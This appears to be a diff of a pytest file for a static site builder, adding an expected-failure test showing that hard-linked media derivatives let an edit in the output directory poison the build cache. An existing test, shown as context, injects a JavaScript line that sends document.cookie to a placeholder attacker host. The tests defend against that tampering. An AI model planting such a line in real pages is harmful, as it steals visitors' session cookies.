@@ -220,3 +220,22 @@ def test_a_search_script_edited_in_the_output_is_not_kept_for_later_builds(tmp_p
         handle.write(b"\nfetch('https://penyerang.example/'+document.cookie);\n")
     build_site(load(root), out)  # nothing changed: every bundle is taken from the cache
     assert b"penyerang.example" not in (out / "pagefind/2025/pagefind.js").read_bytes()
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "pipeline/media/cache.py's place() hard-links each derivative from .warta-cache/media/derivatives/ into "
+    "the output, so the output's picture and the kept derivative are one inode: an in-place write to "
+    "_site/media/... (another picture) rewrites the kept derivative and every later build serves it, no "
+    "status checked. Copying instead costs every derivative's bytes on each build; checking needs each "
+    "derivative's sha256 kept with its key."))
+def test_a_picture_edited_in_the_output_is_not_kept_for_later_builds(tmp_path: Path) -> None:
+    root = make_site(tmp_path / "site")
+    out = root / "_site"
+    build_site(load(root), out)
+    pictures = sorted(p for p in (out / "media").rglob("*") if p.is_file())
+    assert pictures
+    honest = {p.relative_to(out): p.read_bytes() for p in pictures}
+    with pictures[0].open("r+b") as handle:  # written in place: another picture, as far as anyone can tell
+        handle.write(b"\0" * 64)
+    build_site(load(root), out)  # nothing changed
+    assert {p: (out / p).read_bytes() for p in honest} == honest
